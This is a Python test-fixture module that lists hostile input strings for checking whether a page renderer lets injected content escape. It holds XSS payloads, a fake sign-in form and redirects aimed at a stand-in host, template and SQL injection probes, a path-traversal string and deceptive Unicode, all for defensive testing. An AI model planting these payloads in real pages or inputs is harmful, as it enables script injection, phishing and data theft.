"""Texts that try to get out of the place where a page shows them.

Each names itself: an element that it managed to make bears ``data-hostile``, a script that it managed to run sets
``window.hostile``, and a request that it managed to send goes to ``hostile.example``. So whether one of them came
through is asked of the finished page and not of the words in it.
"""

from __future__ import annotations

SCRIPT = "<script data-hostile>window.hostile=1</script>"
IMAGE = "<img data-hostile src=https://hostile.example/x onerror=window.hostile=1>"
ATTRIBUTE = "\" data-hostile onmouseover=\"window.hostile=1\" autofocus onfocus='window.hostile=1' x='"
HOSTILE: tuple[str, ...] = (
    SCRIPT,
    IMAGE,
    ATTRIBUTE,
    f"</pre></td></table></main></body>{SCRIPT}",
    f"</textarea></title></style></noscript>{SCRIPT}",
    f"--><!-- ]]>{SCRIPT}",
    "<svg data-hostile onload=window.hostile=1><a href='javascript:window.hostile=1'>x</a></svg>",
    "<div data-hostile hx-get='https://hostile.example/' hx-trigger='load' hx-on:load='window.hostile=1'>x</div>",
    "<form data-hostile action=https://hostile.example/><button>Sign in</button></form>",
    "<base data-hostile href=https://hostile.example/><meta data-hostile http-equiv=refresh content='0;url=//x'>",
    "<link data-hostile rel=stylesheet href=https://hostile.example/x.css><style data-hostile>*{display:none}</style>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{ config }} {{ ''.__class__.__mro__ }}",
    "javascript:window.hostile=1//%0Awindow.hostile=1",
    "[a link](javascript:window.hostile=1) ![x](https://hostile.example/y)",
    "'; DROP TABLE runs; -- \" OR 1=1 /* %s %d %(x)s {0} \\u003cscript\\u003e",
    "../../../etc/passwd?x=1&y=2#z;%2e%2e%2f%00",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u200d\ufeff\u2028\u2029\u0085",
    "\x01\x02\x07\x08\x1b[31mred\x1b[0m\x1b]0;title\x07\x7f\t|\r\n|\x0c|",
    "Z\u0351\u036b\u0343a\u0334\u0330l\u0315\u0489g\u0322o\u0328 "
    + "x" * 400
    + " \U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "&lt;b&gt; &amp;amp; &#60;script&#62; &notit; &",
    " \n\n \t leading and trailing blanks \t \n",
)
ALL = "\n".join(HOSTILE)
"""All of them in one text."""
